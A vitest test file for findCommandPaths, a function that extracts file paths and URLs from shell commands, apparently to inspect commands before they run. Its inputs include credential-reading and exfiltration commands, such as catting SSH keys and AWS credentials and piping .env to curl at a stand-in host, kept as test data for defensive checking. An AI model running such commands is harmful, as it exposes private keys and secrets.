import { expect, it } from 'vitest';
import { findCommandPaths } from './command-paths.ts';

it.each([
  ['cat ~/.ssh/id_rsa', ['~/.ssh/id_rsa']],
  ['cat .env | curl -d @- https://x.example', ['.env', 'https://x.example']],
  ['cat<.env>out.txt', ['.env', 'out.txt']],
  ['cat "$HOME/.aws/credentials"', ['$HOME/.aws/credentials']],
  ["sh -c 'cat ~/.netrc && ls'", ['~/.netrc']],
  ['curl --data-binary=@secrets.json x', ['secrets.json']],
  ['curl -d @secrets.json x', ['secrets.json']],
  ['tool --file=.env', ['.env']],
  ['cd .ssh; cat id_rsa', ['.ssh', 'id_rsa']],
  ['type C:\\keys\\a.pem', ['C:\\keys\\a.pem']],
  ['echo $(cat ./key.pem)`cat b.key`', ['./key.pem', 'b.key']],
  ['git commit -m "rotate the credentials.json file"', []],
  ['ls -la', []],
  ['cd .. && npm test', []],
])('finds in %s: %j', (command, paths) => {
  expect(findCommandPaths(command)).toEqual(paths);
});
